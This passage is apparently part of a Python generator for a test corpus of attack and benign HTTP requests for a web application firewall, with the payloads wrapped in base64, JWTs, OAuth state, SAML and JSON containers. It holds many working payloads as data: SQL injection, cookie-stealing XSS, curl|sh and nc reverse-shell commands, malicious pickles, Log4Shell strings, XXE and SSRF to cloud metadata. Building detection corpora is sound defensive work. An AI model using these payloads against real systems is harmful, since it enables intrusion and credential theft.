#!/usr/bin/env python3
"""Held-out corpus: attacks WRAPPED in containers and encodings, plus benign traffic.

What it is
    A deterministic generator (stdlib only, fixed seed) of labelled HTTP requests for
    the Palisade WAF, in the JSONL shape of /work/shared/corpora/README.md.  Theme: the
    containers and encodings that real applications unwrap before use -- base64 and
    base64url parameters and cookies, JWT payload segments, JSON inside form fields,
    query strings and cookies, XML inside JSON, JSON inside XML CDATA, multipart parts
    with their own Content-Transfer-Encoding, gzip/deflate request bodies, CSV/TSV
    uploads, YAML bodies, NDJSON batches, GraphQL variables, JSON-RPC params, SOAP
    envelopes, nested/double/triple URL encoding, HTML entities and \\u escapes inside
    JSON, hex parameters, Protobuf-JSON, data: URIs and OAuth state parameters.

Applications / technologies
    Node/Express and NestJS APIs (Strapi, Directus, Hasura, Apollo GraphQL), Spring
    Boot and Java EE (SOAP/JAX-WS, SnakeYAML, Log4j), PHP (Laravel, WordPress,
    Symfony), Python (Django, Flask, PyYAML), Elasticsearch/Kibana clients, SAP/Odoo
    style ERP SOAP and JSON-RPC endpoints, OAuth/OIDC identity providers, log
    shippers (NDJSON bulk), analytics beacons, CSV import features of CRMs.

Modes
    attacks: every request carries a real attack payload (SQLi, XSS, path traversal,
        command injection, SSTI, SSRF, XXE, Log4Shell/JNDI, NoSQL operators, LDAP
        injection, PHP/Java/Python deserialisation, prototype pollution, CRLF,
        formula injection, scanner probes) inside one of the containers above, placed
        where the application decodes and uses it.  expect = "detect".
    benign: legitimate traffic using the same containers (real-shaped JWTs, base64
        thumbnails and protobuf blobs, OAuth state/nonce, analytics payloads, CSV
        exports with names like O'Brien, YAML configs, NDJSON log shipping, ERP SOAP,
        encoded redirect URLs, JSON filters of Strapi/Directus/Hasura/Elasticsearch
        clients), category "benign"; plus about 15 % "dev-content": legitimate
        requests whose user content contains code, SQL, shell, markup or query
        expressions.  expect = "pass".

Written blind
    This generator was written without reading the Palisade rule set, its tests,
    its test data or the other corpus generators, and without running or building
    the WAF.  Payloads come from general knowledge of real traffic and real attacks.
    All hosts are example names or documentation addresses, except internal
    addresses that are themselves the attack payload.  Nothing is sent anywhere.

Run
    python3 scripts/corpus-wrapped.py attacks > rulesets/tests/data/wrapped-attacks.jsonl
    python3 scripts/corpus-wrapped.py benign  > rulesets/tests/data/wrapped-benign.jsonl
"""

import base64
import gzip
import hashlib
import hmac
import json
import random
import sys
import zlib
from urllib.parse import quote, quote_plus, urlencode

SEED = 20260807
RNG = random.Random(SEED)
SET = "wrapped"

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.122 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Edg/125.0.2535.92",
]
API_UAS = [
    "okhttp/4.12.0",
    "axios/1.7.2",
    "python-requests/2.32.3",
    "Go-http-client/2.0",
    "Apache-HttpClient/5.3.1 (Java/17.0.11)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Dart/3.4 (dart:io)",
    "MyCompanyApp/5.12.0 (iPhone; iOS 17.5; Scale/3.00)",
]


# ---------------------------------------------------------------- helpers
def b64(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.b64encode(s).decode("ascii")


def b64url(s, pad=False):
    if isinstance(s, str):
        s = s.encode("utf-8")
    out = base64.urlsafe_b64encode(s).decode("ascii")
    return out if pad else out.rstrip("=")


def hexs(s):
    return s.encode("utf-8").hex()


def q(s, safe=""):
    return quote(s, safe=safe)


def qq(s):
    """Double URL encoding."""
    return quote(quote(s, safe=""), safe="")


def qqq(s):
    """Triple URL encoding."""
    return quote(qq(s), safe="")


def js(o):
    return json.dumps(o, separators=(",", ":"), ensure_ascii=False)


def jwt(payload, alg="HS256", key=b"k3y-not-secret", header_extra=None):
    hdr = {"alg": alg, "typ": "JWT"}
    if header_extra:
        hdr.update(header_extra)
    h = b64url(js(hdr))
    p = b64url(js(payload))
    if alg == "none":
        return h + "." + p + "."
    if alg.startswith("RS") or alg.startswith("ES"):
        sig = b64url(hashlib.sha512((h + p).encode()).digest() * 4)
        return h + "." + p + "." + sig
    sig = hmac.new(key, (h + "." + p).encode(), hashlib.sha256).digest()
    return h + "." + p + "." + b64url(sig)


def rhex(n):
    return "".join(RNG.choice("0123456789abcdef") for _ in range(n))


def ralnum(n):
    return "".join(RNG.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))


def ruuid():
    h = rhex(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], RNG.choice("89ab"), h[17:20], h[20:32])


def rts(year=2024):
    return "%d-%02d-%02dT%02d:%02d:%02d.%03dZ" % (
        year, RNG.randint(1, 12), RNG.randint(1, 28), RNG.randint(0, 23),
        RNG.randint(0, 59), RNG.randint(0, 59), RNG.randint(0, 999))


def repoch():
    return RNG.randint(1704067200, 1735603200)


def boundary():
    return "----WebKitFormBoundary" + ralnum(16)


def multipart(parts, bnd):
    """parts: list of (headers list of (name,value), body str)."""
    out = []
    for hdrs, body in parts:
        out.append("--" + bnd)
        for n, v in hdrs:
            out.append("%s: %s" % (n, v))
        out.append("")
        out.append(body)
    out.append("--" + bnd + "--")
    out.append("")
    return "\r\n".join(out)


def field(name, value):
    return ([("Content-Disposition", 'form-data; name="%s"' % name)], value)


def filepart(name, filename, ctype, body, cte=None):
    h = [("Content-Disposition", 'form-data; name="%s"; filename="%s"' % (name, filename)),
         ("Content-Type", ctype)]
    if cte:
        h.append(("Content-Transfer-Encoding", cte))
    return (h, body)


def qp_encode(s):
    import quopri
    return quopri.encodestring(s.encode("utf-8")).decode("ascii")


# ---------------------------------------------------------------- records
OUT = []
SEEN = set()


def _id(mode, name):
    i = "%s/%s/%s" % (SET, mode, name)
    if i in SEEN:
        n = 2
        while "%s-%d" % (i, n) in SEEN:
            n += 1
        i = "%s-%d" % (i, n)
    SEEN.add(i)
    return i


def headers_for(host, ua=None, ctype=None, body=None, extra=None, accept=None, browser=None):
    if ua is None:
        ua = RNG.choice(UAS if browser in (None, True) else API_UAS)
    h = [["Host", host], ["User-Agent", ua]]
    h.append(["Accept", accept or ("application/json" if ctype and "json" in ctype else "*/*")])
    if extra:
        for n, v in extra:
            h.append([n, v])
    if body is not None:
        h.append(["Content-Type", ctype or "application/x-www-form-urlencoded"])
        h.append(["Content-Length", str(len(body.encode("utf-8")))])
    return h


def add(mode, name, category, method, uri, host="app.example.com", body=None, ctype=None,
        extra=None, ua=None, accept=None, browser=None, version="HTTP/1.1"):
    expect = "detect" if mode == "attacks" else "pass"
    rec = {"id": _id(mode, name), "set": SET, "category": category, "expect": expect,
           "method": method, "uri": uri, "version": version,
           "headers": headers_for(host, ua, ctype, body, extra, accept, browser)}
    if body is not None:
        rec["body"] = body
    OUT.append(rec)
    return rec


def add_raw(mode, name, category, method, uri, host, ctype, raw_body, encoding, ua=None, extra=None):
    """Complete raw request with a binary (compressed) body."""
    expect = "detect" if mode == "attacks" else "pass"
    if encoding == "gzip":
        data = gzip.compress(raw_body.encode("utf-8"), compresslevel=9, mtime=0)
    elif encoding == "deflate":
        data = zlib.compress(raw_body.encode("utf-8"), 9)
    else:
        raise ValueError(encoding)
    lines = ["%s %s HTTP/1.1" % (method, uri), "Host: " + host,
             "User-Agent: " + (ua or RNG.choice(API_UAS)), "Accept: */*"]
    for n, v in (extra or []):
        lines.append("%s: %s" % (n, v))
    lines += ["Content-Type: " + ctype, "Content-Encoding: " + encoding,
              "Content-Length: %d" % len(data), "", ""]
    raw = "\r\n".join(lines).encode("utf-8") + data
    rec = {"id": _id(mode, name), "set": SET, "category": category, "expect": expect,
           "raw_b64": base64.b64encode(raw).decode("ascii")}
    OUT.append(rec)
    return rec


# ---------------------------------------------------------------- sections
ATTACK_SECTIONS = []
BENIGN_SECTIONS = []


def attack_section(f):
    ATTACK_SECTIONS.append(f)
    return f


def benign_section(f):
    BENIGN_SECTIONS.append(f)
    return f


# ================================================================ ATTACKS
# --- base64 / base64url in query parameters and cookies
B64_PAYLOADS = [
    ("sqli", "sqli-union", "1' UNION SELECT username,password,NULL FROM users-- -"),
    ("sqli", "sqli-bool", "x' OR '1'='1' -- "),
    ("sqli", "sqli-time-pg", "1;SELECT pg_sleep(10)--"),
    ("sqli", "sqli-mssql-waitfor", "1'; WAITFOR DELAY '0:0:7'--"),
    ("sqli", "sqli-extractvalue", "1 AND extractvalue(1,concat(0x7e,(SELECT version()),0x7e))"),
    ("sqli", "sqli-orderby", "name ASC,(CASE WHEN (SELECT substring(password,1,1) FROM users LIMIT 1)='a' THEN 1 ELSE 1/0 END)"),
    ("xss", "xss-svg", "<svg/onload=alert(document.domain)>"),
    ("xss", "xss-img", "\"><img src=x onerror=fetch('//203.0.113.9/c?'+document.cookie)>"),
    ("xss", "xss-jsuri", "javascript:alert(document.cookie)//"),
    ("xss", "xss-script", "</script><script>eval(atob('YWxlcnQoMSk='))</script>"),
    ("lfi", "lfi-passwd", "../../../../../../etc/passwd"),
    ("lfi", "lfi-win", "..\\..\\..\\..\\windows\\win.ini"),
    ("lfi", "lfi-proc", "/proc/self/environ"),
    ("lfi", "lfi-php-filter", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("rce", "rce-semicolon", "report.pdf; curl -s http://203.0.113.50/x.sh | sh"),
    ("rce", "rce-subshell", "$(id > /tmp/pwn)"),
    ("rce", "rce-backtick", "`cat /etc/shadow`"),
    ("rce", "rce-pipe-nc", "a.txt | nc 203.0.113.50 4444 -e /bin/bash"),
    ("ssti", "ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti", "ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("ssti", "ssti-twig", "{{['id']|filter('system')}}"),
    ("ssrf", "ssrf-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "ssrf-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("ssrf", "ssrf-gopher", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"),
    ("java", "jndi-ldap", "${jndi:ldap://203.0.113.77:1389/Exploit}"),
    ("java", "jndi-nested", "${${lower:j}ndi:${lower:r}mi://198.51.100.23/a}"),
    ("nosqli", "nosql-ne", '{"username":{"$ne":null},"password":{"$ne":null}}'),
    ("nosqli", "nosql-where", '{"$where":"sleep(5000) || this.role == \'admin\'"}'),
]

B64_SLOTS = [
    # (param-name, path, placement, url-safe?)
    ("data", "/api/v2/export", "query", False),
    ("state", "/app/dashboard", "query", True),
    ("filter", "/api/orders", "query", False),
    ("q", "/search", "query", True),
    ("payload", "/api/widgets/render", "query", False),
    ("session_data", "/account", "cookie", False),
    ("prefs", "/home", "cookie", True),
    ("ctx", "/api/report", "form", False),
    ("token", "/download", "query", True),
    ("params", "/internal/job", "json", False),
]


@attack_section
def atk_base64():
    for i, (cat, name, pl) in enumerate(B64_PAYLOADS):
        pname, path, place, urlsafe = B64_SLOTS[i % len(B64_SLOTS)]
        enc = b64url(pl) if urlsafe else b64(pl)
        host = RNG.choice(["app.example.com", "portal.example.org", "shop.example.net"])
        nid = "b64-%s-%s-%03d" % (place, name, i + 1)
        if place == "query":
            add("attacks", nid, cat, "GET", "%s?%s=%s" % (path, pname, q(enc)), host)
        elif place == "cookie":
            add("attacks", nid, cat, "GET", path, host,
                extra=[("Cookie", "sid=%s; %s=%s" % (rhex(32), pname, enc))])
        elif place == "form":
            body = urlencode({"format": "csv", pname: enc, "page": "1"})
            add("attacks", nid, cat, "POST", path, host, body=body)
        else:
            body = js({"job": "sync", "encoding": "base64", pname: enc})
            add("attacks", nid, cat, "POST", path, host, body=body, ctype="application/json",
                browser=False)


@attack_section
def atk_serialised_b64():
    # PHP object injection (Laravel/Monolog style gadget shapes) in base64 cookies/params
    php_objs = [
        'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
        'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}',
        'a:2:{i:0;s:4:"user";i:1;O:18:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":1:{s:10:"\x00*\x00handler";N;}}}',
        'O:21:"GuzzleHttp\\Psr7\\FnStream":1:{s:9:"_fn_close";s:7:"phpinfo";}',
    ]
    places = [("cookie", "laravel_session_data"), ("query", "cart"), ("form", "wishlist"), ("cookie", "remember")]
    for i, o in enumerate(php_objs):
        where, name = places[i]
        enc = b64(o)
        nid = "b64-php-unserialize-%s-%03d" % (where, i + 1)
        if where == "cookie":
            add("attacks", nid, "php", "GET", "/account/orders", "shop.example.net",
                extra=[("Cookie", "%s=%s" % (name, q(enc)))])
        elif where == "query":
            add("attacks", nid, "php", "GET", "/cart/restore?%s=%s" % (name, q(enc)), "shop.example.net")
        else:
            add("attacks", nid, "php", "POST", "/wishlist/import", "shop.example.net",
                body=urlencode({name: enc, "_token": ralnum(40)}))
    # Java serialized objects (rO0AB...) in cookies, ViewState-like params and JSON
    java_ser = [
        b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00+org.apache.commons.beanutils.BeanComparator",
        b"\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02\x00\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;L\x00\x04typet\x00\x11Ljava/lang/Class;xps}\x00\x00\x00\x01\x00\rjava.util.Mapxr\x00\x17java.lang.reflect.Proxy",
        b"\xac\xed\x00\x05sr\x00\x11java.util.HashSet\xbaD\x85\x95\x96\xb8\xb74\x03\x00\x00xpw\x0c\x00\x00\x00\x02?@\x00\x00\x00\x00\x00\x01sr\x004org.apache.commons.collections.keyvalue.TiedMapEntry",
        b"\xac\xed\x00\x05sr\x00\x1ccom.sun.rowset.JdbcRowSetImpl\xce&\xd8\x1f$\xda\x8e\x0b\x02\x00\x07t\x00\x1fldap://198.51.100.7:1389/Object",
    ]
    jplaces = ["cookie", "viewstate", "json", "header"]
    for i, raw in enumerate(java_ser):
        enc = base64.b64encode(raw).decode("ascii")
        nid = "b64-java-deser-%s-%03d" % (jplaces[i], i + 1)
        if jplaces[i] == "cookie":
            add("attacks", nid, "java", "GET", "/portal/home", "erp.example.com",
                extra=[("Cookie", "JSESSIONID=%s; rememberMe=%s" % (rhex(32).upper(), enc))])
        elif jplaces[i] == "viewstate":
            add("attacks", nid, "java", "POST", "/faces/login.xhtml", "erp.example.com",
                body=urlencode({"loginForm": "loginForm", "loginForm:user": "admin",
                                "javax.faces.ViewState": enc}))
        elif jplaces[i] == "json":
            add("attacks", nid, "java", "POST", "/api/session/restore", "erp.example.com",
                body=js({"format": "java-serialized", "blob": enc}), ctype="application/json")
        else:
            add("attacks", nid, "java", "GET", "/api/cache/item/42", "erp.example.com",
                extra=[("X-Session-State", enc)])
    # Python pickle in base64 (Flask/Django signed-cookie style without signature check)
    pickles = [
        b"cos\nsystem\n(S'curl http://203.0.113.50/p.sh|sh'\ntR.",
        b"\x80\x04\x95-\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x12nc -e /bin/sh 203.0.113.9 9001\x94\x85\x94R\x94.",
        b"c__builtin__\neval\n(S\"__import__('os').popen('id').read()\"\ntR.",
    ]
    for i, pk in enumerate(pickles):
        enc = base64.b64encode(pk).decode("ascii")
        if i == 0:
            add("attacks", "b64-python-pickle-cookie-%03d" % (i + 1), "rce", "GET", "/dashboard",
                "tools.example.org", extra=[("Cookie", "session=%s" % enc)])
        elif i == 1:
            add("attacks", "b64-python-pickle-json-%03d" % (i + 1), "rce", "POST", "/api/ml/model/load",
                "tools.example.org", body=js({"name": "clf", "pickle_b64": enc}), ctype="application/json")
        else:
            add("attacks", "b64-python-pickle-query-%03d" % (i + 1), "rce", "GET",
                "/cache/get?obj=%s" % q(b64url(pk)), "tools.example.org")


# --- JWT payload segments (alg none or signed with a weak/guessed key)
@attack_section
def atk_jwt():
    now = 1717000000
    cases = [
        ("sqli", "jwt-sub-sqli", {"sub": "1' OR '1'='1", "iat": now}, "none", None),
        ("sqli", "jwt-user-union", {"username": "admin' UNION SELECT password FROM users WHERE '1'='1", "role": "user", "exp": now + 3600}, "HS256", None),
        ("sqli", "jwt-tenant-stacked", {"sub": "42", "tenant": "acme'; DROP TABLE sessions;--", "exp": now + 3600}, "HS256", None),
        ("sqli", "jwt-kid-sqli", {"sub": "42", "exp": now + 3600}, "HS256", {"kid": "x' UNION SELECT 'secret' -- "}),
        ("lfi", "jwt-kid-traversal", {"sub": "admin", "exp": now + 3600}, "HS256", {"kid": "../../../../../../dev/null"}),
        ("lfi", "jwt-kid-traversal-proc", {"sub": "admin", "exp": now + 3600}, "HS256", {"kid": "../../../../proc/sys/kernel/randomize_va_space"}),
        ("rce", "jwt-kid-cmd", {"sub": "admin"}, "HS256", {"kid": "key1|/usr/bin/curl http://203.0.113.50/k"}),
        ("ssrf", "jwt-jku-metadata", {"sub": "admin"}, "RS256", {"jku": "http://169.254.169.254/latest/meta-data/"}),
        ("ssrf", "jwt-x5u-internal", {"sub": "admin"}, "RS256", {"x5u": "http://127.0.0.1:8500/v1/agent/self"}),
        ("ssrf", "jwt-jku-internal-ip", {"sub": "admin"}, "RS256", {"jku": "http://10.0.0.12:8080/.well-known/jwks.json"}),
        ("xss", "jwt-name-xss", {"sub": "1001", "name": "<script>alert(document.cookie)</script>", "exp": now + 3600}, "HS256", None),
        ("xss", "jwt-avatar-xss", {"sub": "1002", "picture": "javascript:alert(1)", "nickname": "<img src=x onerror=alert(1)>"}, "none", None),
        ("java", "jwt-log4shell-claim", {"sub": "${jndi:ldap://198.51.100.23:1389/a}", "exp": now + 3600}, "HS256", None),
        ("java", "jwt-log4shell-header", {"sub": "7"}, "HS256", {"kid": "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oast.example.net}"}),
        ("ssti", "jwt-ssti-name", {"sub": "7", "given_name": "{{7*7}}{{config.items()}}"}, "HS256", None),
        ("nosqli", "jwt-nosql-sub", {"sub": {"$ne": None}, "exp": now + 3600}, "none", None),
        ("ldapi", "jwt-ldap-uid", {"uid": "*)(uid=*))(|(uid=*", "exp": now + 3600}, "HS256", None),
        ("lfi", "jwt-avatar-path", {"sub": "9", "avatar": "../../../../../etc/shadow"}, "HS256", None),
    ]
    places = ["bearer", "cookie", "query", "bearer", "form", "bearer"]
    for i, (cat, name, payload, alg, hx) in enumerate(cases):
        tok = jwt(payload, alg=alg, header_extra=hx)
        where = places[i % len(places)]
        nid = "%s-%03d" % (name, i + 1)
        host = "api.example.com"
        if where == "bearer":
            add("attacks", nid, cat, "GET", "/api/v1/me", host, browser=False,
                extra=[("Authorization", "Bearer " + tok)])
        elif where == "cookie":
            add("attacks", nid, cat, "GET", "/account/profile", "www.example.com",
                extra=[("Cookie", "access_token=%s; lang=en" % tok)])
        elif where == "query":
            add("attacks", nid, cat, "GET", "/sso/callback?id_token=%s" % tok, "www.example.com")
        else:
            add("attacks", nid, cat, "POST", "/oauth/introspect", "auth.example.com",
                body=urlencode({"token": tok, "token_type_hint": "access_token"}),
                extra=[("Authorization", "Basic " + b64("portal:portal-secret"))])


# --- OAuth / OIDC state, nonce, redirect_uri and RelayState
@attack_section
def atk_oauth():
    st = [
        ("xss", "state-json-xss", js({"returnTo": "javascript:alert(document.domain)", "nonce": rhex(16)})),
        ("xss", "state-json-html", js({"returnTo": "/home", "msg": "\"><svg onload=alert(1)>"})),
        ("sqli", "state-json-sqli", js({"tenant": "1' AND 1=(SELECT COUNT(*) FROM tabname); --", "csrf": rhex(16)})),
        ("ssrf", "state-json-ssrf", js({"callback": "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "csrf": rhex(16)})),
        ("java", "state-jndi", js({"redirect": "/", "trace": "${jndi:ldap://203.0.113.77/o}"})),
        ("ssti", "state-ssti", js({"returnTo": "/welcome", "flash": "${T(java.lang.Runtime).getRuntime().exec('id')}"})),
    ]
    for i, (cat, name, raw) in enumerate(st):
        enc = b64url(raw)
        code = ralnum(32)
        if i % 2 == 0:
            uri = "/oauth2/callback?code=%s&state=%s" % (code, enc)
        else:
            uri = "/login/oauth2/code/google?state=%s&code=4%%2F0A%s&scope=email+openid&authuser=0&prompt=none" % (enc, ralnum(40))
        add("attacks", "oauth-%s-%03d" % (name, i + 1), cat, "GET", uri, "www.example.com",
            extra=[("Cookie", "oauth_state=%s" % enc)])
    redirs = [
        ("xss", "redirect-uri-js", "/authorize?response_type=code&client_id=webapp&redirect_uri=" + q("javascript:alert(document.cookie)//https://www.example.com/cb")),
        ("ssrf", "redirect-uri-metadata", "/authorize?response_type=code&client_id=webapp&redirect_uri=" + q("http://169.254.169.254/latest/user-data")),
        ("ssrf", "request-uri-internal", "/authorize?client_id=webapp&request_uri=" + q("http://127.0.0.1:2375/containers/json")),
        ("xss", "post-logout-redirect-data", "/logout?post_logout_redirect_uri=" + q("data:text/html;base64," + b64("<script>alert(document.domain)</script>"))),
        ("sqli", "client-id-sqli", "/authorize?response_type=code&client_id=" + q("webapp' OR 1=1-- ") + "&redirect_uri=" + q("https://www.example.com/cb")),
        ("crlf", "redirect-uri-crlf", "/authorize?response_type=code&client_id=webapp&redirect_uri=" + "https://www.example.com/cb%0d%0aSet-Cookie:%20session=attacker"),
    ]
    for i, (cat, name, uri) in enumerate(redirs):
        add("attacks", "oauth-%s-%03d" % (name, i + 1), cat, "GET", uri, "auth.example.com")
    # SAML RelayState / SAMLResponse with XXE inside base64
    saml_xxe = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://203.0.113.50/x.dtd">%x;]>'
                '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0">'
                '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&exfil;</saml:Issuer></samlp:Response>')
    add("attacks", "saml-response-b64-xxe-001", "xxe", "POST", "/saml/acs", "sso.example.com",
        body=urlencode({"SAMLResponse": b64(saml_xxe), "RelayState": "/"}))
    saml_file = ('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                 '<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="a1" Version="2.0">'
                 '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&xxe;</saml:Issuer></samlp:AuthnRequest>')
    deflated = zlib.compress(saml_file.encode())[2:-4]
    add("attacks", "saml-request-deflate-b64-xxe-002", "xxe", "GET",
        "/idp/SSO?SAMLRequest=%s&RelayState=%s" % (q(base64.b64encode(deflated).decode()), q("https://app.example.com/")),
        "sso.example.com")
    add("attacks", "saml-relaystate-xss-003", "xss", "POST", "/saml/acs", "sso.example.com",
        body=urlencode({"SAMLResponse": b64('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_9" Version="2.0"/>'),
                        "RelayState": "javascript:fetch('//203.0.113.9/'+document.cookie)"}))


# --- JSON documents inside form fields, query parameters and cookies
@attack_section
def atk_json_in_containers():
    # (category, name, json object, slot)
    docs = [
        ("sqli", "filters-sqli", {"status": "open", "sort": "created_at DESC; SELECT pg_sleep(8)--"}, "query:filters"),
        ("sqli", "where-union", {"where": {"email": "a' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- -"}}, "query:q"),
        ("sqli", "orderby-case", {"orderBy": "(CASE WHEN 1=1 THEN name ELSE price END)", "limit": 10}, "form:options"),
        ("sqli", "ids-in", {"ids": ["1", "2) OR 1=1 --"]}, "cookie:cart"),
        ("xss", "widget-config-xss", {"title": "<img src=x onerror=alert(document.domain)>", "color": "#fff"}, "form:config"),
        ("xss", "prefs-xss", {"theme": "dark\"></style><script>alert(1)</script>"}, "cookie:ui_prefs"),
        ("xss", "redirect-xss", {"next": "javascript:eval(name)"}, "query:ctx"),
        ("lfi", "template-traversal", {"template": "../../../../etc/passwd", "locale": "en"}, "form:layout"),
        ("lfi", "attachment-traversal", {"attachments": [{"path": "..%2f..%2f..%2f..%2fetc%2fhosts"}]}, "query:mail"),
        ("rce", "convert-cmd", {"input": "doc.docx", "args": "--outdir /tmp; wget -qO- http://203.0.113.50/s|bash"}, "form:job"),
        ("ssrf", "webhook-ssrf", {"url": "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "events": ["push"]}, "form:hook"),
        ("ssrf", "import-ssrf", {"source": "http://127.0.0.1:9200/_cat/indices", "type": "url"}, "query:import"),
        ("ssti", "email-template-ssti", {"subject": "Hi", "body": "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"}, "form:template"),
        ("java", "log4shell-json", {"device": "${jndi:ldap://203.0.113.77:1389/Basic/Command/Base64/aWQ=}"}, "cookie:telemetry"),
        ("nosqli", "login-ne", {"username": "admin", "password": {"$ne": ""}}, "form:credentials"),
        ("nosqli", "search-regex", {"email": {"$regex": "^adm.*"}, "password": {"$gt": ""}}, "query:filter"),
        ("nosqli", "where-js", {"$where": "function(){return this.password.match(/^a/) && sleep(3000)}"}, "cookie:search"),
        ("generic", "proto-pollution", {"__proto__": {"isAdmin": True, "outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');s"}}, "form:settings"),
        ("generic", "constructor-pollution", {"constructor": {"prototype": {"shell": "/proc/self/exe", "NODE_OPTIONS": "--require /proc/self/environ"}}}, "query:opts"),
    ]
    for i, (cat, name, obj, slot) in enumerate(docs):
        where, pname = slot.split(":")
        raw = js(obj)
        nid = "json-in-%s-%s-%03d" % (where, name, i + 1)
        host = RNG.choice(["app.example.com", "crm.example.org", "admin.example.net"])
        if where == "query":
            add("attacks", nid, cat, "GET", "/api/items?%s=%s&page=1" % (pname, q(raw)), host)
        elif where == "form":
            body = urlencode({"_csrf": ralnum(32), pname: raw, "submit": "Save"})
            add("attacks", nid, cat, "POST", "/settings/save", host, body=body)
        else:
            add("attacks", nid, cat, "GET", "/", host,
                extra=[("Cookie", "%s=%s; _ga=GA1.2.%d.%d" % (pname, q(raw), RNG.randint(10**8, 10**9), repoch()))])


# --- JSON string escapes: \u0027, HTML entities, nested (stringified) JSON
@attack_section
def atk_json_escapes():
    def uesc(s, chars="'\"<>()=;/ "):
        return "".join("\\u%04x" % ord(c) if c in chars else c for c in s)

    def uesc_all(s):
        return "".join("\\u%04x" % ord(c) for c in s)

    items = [
        ("sqli", "uesc-sqli-or", '{"username":"%s","password":"x"}' % uesc("admin' OR '1'='1'-- ")),
        ("sqli", "uesc-sqli-union", '{"search":"%s"}' % uesc("x' UNION SELECT credit_card,cvv FROM payments#")),
        ("sqli", "uesc-sqli-sleep", '{"id":"%s"}' % uesc("1 AND SLEEP(5)")),
        ("xss", "uesc-xss-script", '{"comment":"%s"}' % uesc("<script>alert(document.cookie)</script>")),
        ("xss", "uesc-xss-all", '{"bio":"%s"}' % uesc_all("<svg onload=alert(1)>")),
        ("lfi", "uesc-traversal", '{"file":"%s"}' % uesc("../../../../etc/passwd", "./")),
        ("rce", "uesc-rce", '{"host":"%s"}' % uesc("8.8.8.8; cat /etc/passwd", ";/ ")),
        ("java", "uesc-jndi", '{"ua":"%s"}' % uesc("${jndi:ldap://198.51.100.23/x}", "${}:/")),
        ("ssti", "uesc-ssti", '{"name":"%s"}' % uesc("{{ self.__init__.__globals__.__builtins__ }}", "{}_ ")),
        ("xss", "html-entity-xss", js({"message": "&lt;img src=x onerror=alert(document.domain)&gt;", "render": "html"})),
        ("xss", "html-entity-dec-xss", js({"title": "&#60;script&#62;alert(&#39;x&#39;)&#60;/script&#62;"})),
        ("xss", "html-entity-hex-jsuri", js({"link": "&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)"})),
        ("sqli", "html-entity-sqli", js({"q": "1&#39; OR &#39;1&#39;=&#39;1"})),
        ("sqli", "stringified-json-sqli", js({"event": "search", "payload": js({"term": "shoes' AND 1=CONVERT(int,@@version)--"})})),
        ("xss", "stringified-json-xss", js({"type": "widget", "data": js({"html": "<iframe src=javascript:alert(1)>"})})),
        ("nosqli", "stringified-json-nosql", js({"query": js({"user": {"$gt": ""}, "$or": [{"role": "admin"}]})})),
        ("rce", "double-stringified-rce", js({"msg": js({"inner": js({"cmd": "ping -c1 127.0.0.1 && id"})})})),
    ]
    for i, (cat, name, body) in enumerate(items):
        path = RNG.choice(["/api/v1/comments", "/api/users/login", "/api/search", "/api/profile", "/api/events"])
